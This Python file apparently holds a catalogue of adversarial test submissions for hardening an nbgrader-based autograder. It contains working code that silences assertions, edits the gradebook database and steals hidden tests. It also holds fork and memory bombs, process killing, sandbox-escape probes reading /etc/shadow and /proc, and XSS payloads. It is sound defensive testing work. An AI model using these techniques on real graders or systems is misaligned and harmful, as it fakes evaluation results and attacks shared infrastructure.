"""The attacks. All answers are wrong unless said otherwise, so every point is one gained by cheating.

The numbers in `origin` are those of GRADING_NOTES.md and PLATFORM_NOTES.md.
"""

# ruff: noqa: E501  (quoted code)

from dataclasses import dataclass, field
from textwrap import dedent

WRONG = "    return -99"


@dataclass(frozen=True)
class Attack:
    """One submission to the small assignment.

    Parameters
    ----------
    name : str
        Also the student's.
    prelude : str
        Code of the first answer cell, before its function.
    body : str
        Body of every function; ``{i}`` is its number.
    edit : callable, optional
        Changes the notebook.
    files : dict of str to str
        Files handed in with it; a value ``"-> target"`` is a symbolic link.
    right : bool
        Whether the answers are right, so that all points are due whatever else the submission does.
    points : float or None
        Points due where they are neither 0 nor all.
    beats_stock : bool
        Whether stock nbgrader gives points for it, or otherwise fails.
    origin : str
    """

    name: str
    prelude: str = ""
    body: str = WRONG
    edit: object = None
    files: dict = field(default_factory=dict)
    right: bool = False
    points: float | None = None
    beats_stock: bool = False
    origin: str = ""

    def answers(self):
        """Source of the five answer cells."""
        body = "    return np.asarray(x) * {i} + 1" if self.right and self.body == WRONG else self.body
        cells = {f"f{i}": f"def f{i}(x):\n{body.replace('{i}', str(i))}" for i in range(1, 6)}
        cells["f1"] = dedent(self.prelude) + "\n" + cells["f1"]
        return cells


def _tag_tests(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["tags"] = ["skip-execution"]


def _raise_points(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader["points"] = 100


def _unflag(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader["grade"] = False


def _own_tests(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "2.0"


def _outputs_of_success(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            data = {"text/plain": "2.0"}
            cell.outputs = [{"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}]


def _test_cells_as_answers(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader |= {"solution": True, "locked": False}
            cell.source = "pass"


def _scripts_everywhere(notebook):
    notebook.cells[0].source += "\n<script>alert(1)</script>"


ATTACKS = [
    Attack("control", origin="A0"),
    # --- the student's own process lies about itself ---
    Attack("showtraceback", "get_ipython().__class__.showtraceback = lambda *a, **k: None", origin="A1"),
    Attack(
        "ast-transformers",
        """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
            def visit_Expr(self, node):
                return ast.Pass() if "testing" in ast.dump(node) else node
        get_ipython().ast_transformers.append(Drop())
        """,
        beats_stock=True,
        origin="A2",
    ),
    Attack(
        "input-transformers",
        'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "assert" in "".join(lines) else lines)',
        beats_stock=True,
        origin="A3, 21",
    ),
    Attack("displayhook", body="    import sys; sys.displayhook(2.0); return -99", beats_stock=True, origin="A4"),
    Attack(
        "read-the-test-cell",
        """
        import re
        def from_history(i, x):
            text = get_ipython().user_ns["In"][-1]
            pairs = re.findall(rf"f{i}\\((.*?)\\) == (\\d+)", text)
            for given, expected in pairs:
                if str(x) == given:
                    return int(expected)
            found = re.search(r"\\), (\\[.*?\\])\\)", text)
            return np.array(eval(found[1])) if found else -99
        """,
        "    return from_history({i}, x)",
        beats_stock=True,
        origin="A5",
    ),
    Attack(
        "read-the-graded-notebook",
        """
        import glob, json, re
        def from_files(i, x):
            for path in glob.glob("*.ipynb") + glob.glob("../*/*.ipynb") + glob.glob("/**/autograded/**/*.ipynb"):
                text = "".join("".join(c["source"]) for c in json.load(open(path))["cells"])
                for given, expected in re.findall(rf"f{i}\\((.*?)\\) == (\\d+)", text):
                    if str(x) == given:
                        return int(expected)
                found = re.search(rf"f{i}\\(\\[1.0, 7.0\\]\\), (\\[.*?\\])\\)", text)
                if found:
                    return np.array(eval(found[1]))
            return -99
        """,
        "    return from_files({i}, x)",
        beats_stock=True,
        origin="A6",
    ),
    Attack(
        "equal-to-everything",
        """
        class Yes(float):
            __hash__ = None
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array__(self, dtype=None, copy=None): return np.array(np.nan)
        """,
        "    return Yes()",
        origin="A7, 17",
    ),
    Attack(
        "equal-to-everything-object",
        """
        class Yes:
            def __eq__(self, other): return True
            def __getattr__(self, name): return lambda *a, **k: Yes()
            def __len__(self): return 2
            def __getitem__(self, key): return Yes()
            def __iter__(self): return iter([Yes(), Yes()])
            def __abs__(self): return 0
            def __sub__(self, other): return 0
        """,
        "    return Yes()",
        origin="A7",
    ),
    Attack(
        "gradebook",
        """
        import glob, os, sqlite3
        places = ["../../../gradebook.db", os.path.join(os.environ.get("COURSE_TARGET", "."), "gradebook.db")]
        for path in places:
            try:
                with sqlite3.connect(path) as connection:
                    connection.execute("UPDATE grade SET manual_score = 2")
            except Exception:
                pass
        """,
        beats_stock=True,
        origin="A8, 15",
    ),
    Attack(
        "source-solutions",
        """
        import glob, json
        for path in glob.glob("../../../source/small/*.ipynb"):
            for cell in json.load(open(path))["cells"]:
                text = "".join(cell["source"])
                if "BEGIN SOLUTION" in text:
                    exec(text)
        taken = dict(globals())
        """,
        "    return taken['f{i}'](x) if 'f{i}' in taken else -99",
        beats_stock=True,
        origin="A9, 16",
    ),
    Attack("exit-process", body="    import os; os._exit(0)", beats_stock=True, origin="A10, 8"),
    Attack("sys-exit", body="    import sys; sys.exit(0)", origin="A11"),
    Attack(
        "swallow-interrupt",
        body="    if {i} > 1: return -99\n    while True:\n        try:\n            while True: pass\n"
        "        except KeyboardInterrupt: pass",
        origin="A12, 3",
    ),
    Attack(
        "run-cell-async",
        """
        async def nothing(*args, **kwargs):
            from IPython.core.interactiveshell import ExecutionResult
            return ExecutionResult(None)
        get_ipython().run_cell_async = nothing
        """,
        origin="A13",
    ),
    Attack(
        "builtins",
        """
        import builtins
        for name in ("abs", "all", "any", "isinstance", "len", "AssertionError", "float", "print", "__import__"):
            globals()[name] = lambda *a, **k: True
        builtins.AssertionError = builtins.abs = lambda *a, **k: True
        """,
    ),
    Attack("numpy-testing", "np.testing.assert_allclose = lambda *a, **k: None", beats_stock=True, origin="10"),
    Attack(
        "numpy-testing-module",
        """
        import sys, types
        fake = types.ModuleType("numpy.testing")
        fake.__getattr__ = lambda name: (lambda *a, **k: None)
        sys.modules["numpy.testing"] = fake
        np.testing = fake
        import builtins
        builtins.AssertionError = type("Calm", (Exception,), {})
        """,
        beats_stock=True,
        origin="4.1",
    ),
    Attack(
        "patch-later",
        """
        import threading, time
        def later():
            while True:
                np.testing.assert_allclose = lambda *a, **k: None
                get_ipython().user_ns["f1"] = lambda x: -99
                time.sleep(0.001)
        threading.Thread(target=later, daemon=True).start()
        """,
        beats_stock=True,
        origin="4.1",
    ),
    Attack("course-solutions", "from utils.solutions import ch00 as solutions", origin="9"),
    Attack("hidden-tests", "import autograder.hidden_tests.ch00 as hidden; f2 = hidden.chapter", origin="9"),
    # --- the notebook file lies ---
    Attack("points", edit=_raise_points, origin="B1"),
    Attack("unflagged", edit=_unflag, beats_stock=True, origin="B2"),
    Attack("skip-execution", edit=_tag_tests, beats_stock=True, origin="C1"),
    Attack("own-tests", edit=_own_tests, origin=""),
    Attack("own-outputs", edit=_outputs_of_success, origin=""),
    Attack("tests-as-answers", edit=_test_cells_as_answers, beats_stock=True, origin="13"),
    Attack(
        "shadow-numpy",
        files={
            "numpy.py": "import sys\nfrom IPython import get_ipython\n"
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\nasarray = array = float\n"
        },
        beats_stock=True,
        origin="C2, 22",
    ),
    Attack("symlink", files={"leak.txt": "-> /etc/hostname", "folder": "-> /etc"}, beats_stock=True, origin="C4"),
    Attack("print-300-MB", "for _ in range(300): print('x' * 1_000_000)", right=True, origin="C3"),
    Attack(
        "warns",
        "import warnings, sys; warnings.warn('old'); print('noise', file=sys.stderr)",
        right=True,
        origin="B5, 14",
    ),
    Attack(
        "warns-inside",
        body="    import warnings, sys; warnings.warn('old'); print('noise', file=sys.stderr)\n    return np.asarray(x) * {i} + 1",
        right=True,
        beats_stock=True,
        origin="B5, 14",
    ),
    Attack(
        "scripts",
        """
        from IPython.display import HTML, Javascript, SVG, display
        display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=x></iframe><b>bold</b>"))
        display(Javascript("alert(1)"))
        display({"application/javascript": "alert(1)", "text/html": "<a href='javascript:alert(1)'>x</a>"}, raw=True)
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"))
        """,
        edit=_scripts_everywhere,
    ),
    # --- resources ---
    Attack("fork-bomb", "import os\nwhile True:\n    os.fork()"),
    Attack(
        "fork-bomb-quiet",
        """
        import os
        for _ in range(1000):
            try:
                if os.fork() == 0:
                    while True: pass
            except OSError:
                pass
        """,
    ),
    Attack(
        "thread-bomb",
        """
        import threading, time
        made = []
        try:
            for _ in range(20000):
                thread = threading.Thread(target=time.sleep, args=(1000,), daemon=True); thread.start(); made.append(thread)
        except RuntimeError:
            pass
        """,
    ),
    Attack("memory-bomb", "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))", origin="4, 27"),
    Attack("memory-bomb-numpy", "import numpy as np; hog = np.ones(20_000_000_000)"),
    Attack("memory-in-call", body="    return [0] * 10**11"),
    Attack("killed", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)", origin="27"),
    Attack("segfault", "import ctypes; ctypes.string_at(0)"),
    Attack("stack-overflow", body="    return f{i}(x)"),
    Attack("endless-cell", "while True: pass", origin="3"),
    Attack(
        "deaf",
        """
        import signal
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except Exception: pass
        while True: pass
        """,
    ),
    Attack(
        "many-files",
        """
        for i in range(1_000_000):
            open(f"file{i}", "w").write("x" * 100)
        """,
    ),
    Attack(
        "large-files",
        """
        for i in range(1000):
            with open(f"file{i}", "wb") as file:
                file.write(b"x" * 60_000_000)
        """,
    ),
    Attack("huge-file", "open('huge', 'wb').truncate(10**12); open('one', 'wb').write(b'x' * 10**9)"),
    # --- the world outside ---
    Attack(
        "network",
        """
        import socket, urllib.request
        reached = []
        for attempt in (
            lambda: socket.create_connection(("127.0.0.1", 22), 1),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)),
            lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"),
            lambda: urllib.request.urlopen("http://127.0.0.1:1/", timeout=1),
        ):
            try:
                attempt(); reached.append(attempt)
            except PermissionError:
                pass
            except OSError as problem:
                if "not permitted" not in str(problem): reached.append(problem)
        import os
        if reached: open("REACHED", "w"); print("BREACH", reached)
        """,
    ),
    Attack(
        "other-programs",
        """
        import os, subprocess
        for attempt in (
            lambda: subprocess.run(["/bin/sh", "-c", "touch /tmp/breach"]),
            lambda: subprocess.Popen(["sleep", "1000"], start_new_session=True),
            lambda: os.system("touch /tmp/breach") == 0 or 1 / 0,
            lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
            lambda: os.execv("/bin/sh", ["sh", "-c", "touch /tmp/breach"]),
        ):
            try:
                attempt(); print("BREACH")
            except Exception:
                pass
        """,
    ),
    Attack(
        "daemon",
        """
        import multiprocessing, os
        for attempt in (lambda: os.fork(), lambda: multiprocessing.get_context("fork").Process(target=print).start(),
                        lambda: multiprocessing.get_context("spawn").Process(target=print).start(), lambda: os.setsid()):
            try:
                attempt(); print("BREACH")
            except Exception:
                pass
        """,
    ),
    Attack(
        "kill-others",
        """
        import os, signal
        for pid in [-1, 0, 1, os.getppid(), *range(2, 40000)]:
            if pid != os.getpid() and pid != 0:
                try:
                    os.kill(pid, signal.SIGKILL); print("BREACH", pid)
                except OSError:
                    pass
        """,
    ),
    Attack(
        "write-outside",
        """
        import os, shutil
        target = os.environ.get("COURSE_TARGET", "")
        for path in ("/tmp/breach", "/var/tmp/breach", "/dev/shm/breach", os.path.expanduser("~/../breach"),
                     os.path.dirname(np.__file__) + "/breach", "../breach", "/breach", "/proc/self/oom_score_adj"):
            try:
                with open(path, "w") as file: file.write("1000")
                print("BREACH", path)
            except OSError:
                pass
        for call in (lambda: os.symlink("/etc", "etc"), lambda: os.link(np.__file__, "np"), lambda: os.mkfifo("fifo"),
                     lambda: os.mknod("node"), lambda: os.truncate(np.__file__, 0), lambda: os.remove(np.__file__),
                     lambda: os.rename(np.__file__, "np"), lambda: shutil.rmtree(os.path.dirname(np.__file__))):
            try:
                call(); print("BREACH")
            except OSError:
                pass
        os.chmod(np.__file__, 0)
        os.utime(np.__file__, (0, 0))
        if os.stat(np.__file__).st_mode & 0o777 == 0: print("BREACH mode")
        """,
    ),
    Attack(
        "escape-calls",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for number in (101, 155, 161, 165, 272, 308, 310, 311, 321, 323, 425, 426, 427, 428, 430, 434, 438, 248, 250):
            result = libc.syscall(number, 0, 0, 0, 0, 0, 0)
            if result >= 0: print("BREACH", number, result)
        for path in ("/proc/1/mem", f"/proc/{os.getppid()}/mem", f"/proc/{os.getppid()}/environ", "/proc/1/environ",
                     "/proc/1/root/etc/passwd", f"/proc/{os.getppid()}/fd", "/proc/kcore", "/etc/shadow", "/etc/passwd"):
            try:
                os.listdir(path) if path.endswith("fd") else open(path, "rb").read(1)
                print("BREACH", path)
            except OSError:
                pass
        """,
    ),
    # --- the engine's own channel ---
    Attack(
        "forged-frames",
        """
        import json, os, struct
        def forge():
            for fd in range(3, 256):
                text = json.dumps({"op": "value", "n": 1, "v": 1, "blobs": []}).encode()
                try: os.write(fd, struct.pack("!IQ", len(text), 0) + text)
                except OSError: pass
        forge()
        """,
    ),
    Attack(
        "forged-in-call",
        """
        import json, os, struct
        def forge():
            for n in range(1, 60):
                text = json.dumps({"op": "value", "n": n, "v": 3, "blobs": []}).encode()
                for fd in range(3, 256):
                    try: os.write(fd, struct.pack("!IQ", len(text), 0) + text)
                    except OSError: pass
        """,
        "    forge(); return -99",
    ),
    Attack(
        "giant-frame",
        """
        import os, struct
        for fd in range(3, 256):
            try: os.write(fd, struct.pack("!IQ", 2**32 - 1, 2**63))
            except OSError: pass
        """,
    ),
    Attack(
        "noise-on-all-descriptors",
        "import os\nfor fd in range(3, 256):\n    try: os.write(fd, os.urandom(4096))\n    except OSError: pass",
    ),
    Attack("close-everything", "import os; os.closerange(0, 4096)"),
    Attack(
        "rewritten-server",
        """
        import gc
        for thing in gc.get_objects():
            if type(thing).__name__ == "StudentProcess":
                type(thing).do_call = lambda self, message, blobs: True
                type(thing).encode = lambda self, value, blobs, depth=0: {"t": "mine", "id": 1, "k": "object",
                    "callable": True, "lineage": ["Result"], "points": 2}
        """,
    ),
    Attack(
        "malformed-values",
        """
        import gc, itertools
        nodes = itertools.cycle([
            {"t": "array", "d": "<f8", "s": [10**6, 10**6], "b": 0}, {"t": "array", "d": "O", "s": [1], "b": 0},
            {"t": "array", "d": "<f8", "s": [-1], "b": 0}, {"t": "tensor", "d": "float64", "s": [2**39], "b": 0},
            {"t": "int", "v": "0x" + "f" * 1000000}, {"t": "yours", "id": 1}, {"t": "yours", "id": "x"}, {"t": "nonsense"},
            {"t": "dict", "v": [[[1], 2]]}, {"t": "mine", "id": 1}, {"t": "generator", "k": "os", "v": {}},
            {"t": "torch-dtype", "v": "load"}, {"t": "range", "v": ["a", 1, 2]}, {"t": "bytes", "b": -1}, {"t": []}, {"t": "dtype", "v": "O"},
        ])
        for thing in gc.get_objects():
            if type(thing).__name__ == "StudentProcess":
                type(thing).encode = lambda self, value, blobs, depth=0: next(nodes)
        """,
    ),
    Attack("deep-value", body="    value = []\n    for _ in range(100000): value = [value]\n    return value"),
    Attack("recursive-value", body="    value = []; value.append(value); return value"),
    Attack("large-value", body="    return np.zeros(50_000_000)"),
    Attack("long-text", body="    return 'x' * 100_000_000"),
    Attack("many-parts", body="    return [[] for _ in range(2_000_000)]"),
    Attack("endless-generator", body="    while True: yield 1"),
    Attack("surrogates", body="    raise ValueError('\\ud800' * 10)"),
    Attack(
        "evil-exception",
        """
        class Evil(Exception):
            def __str__(self): raise SystemExit
            __repr__ = __str__
        Evil.__name__ = "AssertionError" * 1000
        """,
        "    raise Evil()",
    ),
    Attack("base-exception", body="    raise BaseException('out')"),
    Attack("keyboard-interrupt", body="    raise KeyboardInterrupt"),
    Attack("generator-exit", body="    raise GeneratorExit"),
    Attack(
        "spy",
        """
        import gc, os, sys, inspect
        needles = ["x * 1 + 1".replace("x", "np.asarray(x)"), "BEGIN HIDDEN" + " TESTS", "assert_allclose" + "(f"]
        found = []
        def look(text, where):
            if isinstance(text, str) and where != "own" and any(needle in text for needle in needles):
                found.append(where)
        for thing in gc.get_objects():
            try:
                if isinstance(thing, dict):
                    for key, value in list(thing.items()):
                        if isinstance(value, str) and key not in ("_i", "_ii", "_iii", "needles") and not str(key).startswith("_i"):
                            look(value, ("dict", str(key)[:40]))
            except Exception:
                pass
        frame = sys._getframe()
        while frame is not None:
            for key, value in frame.f_locals.items():
                if isinstance(value, str) and "needles =" not in value: look(value, ("frame", key))
            frame = frame.f_back
        for key, value in os.environ.items(): look(value, ("environ", key))
        for name in list(sys.modules):
            if name.startswith(("autograder", "utils.solutions", "nbgrader")): found.append(("module", name))
        seen = 0
        for top in ("/tmp", "/home", "/root", "/work", "/srv", "/var", "/opt", os.getcwd(), os.path.dirname(os.getcwd())):
            for where, folders, names in os.walk(top):
                seen += 1
                if seen > 20000: break
                folders[:] = [f for f in folders if f not in ("site-packages", "lib")]
                for name in names:
                    if name.endswith((".ipynb", ".db", ".py")):
                        try:
                            text = open(os.path.join(where, name), errors="replace").read()
                        except OSError:
                            continue
                        if "def f1(x):" in text or any(needle in text for needle in needles[1:]):
                            found.append(os.path.join(where, name))
        if found: print("BREACH", found[:20])
        """,
    ),
]
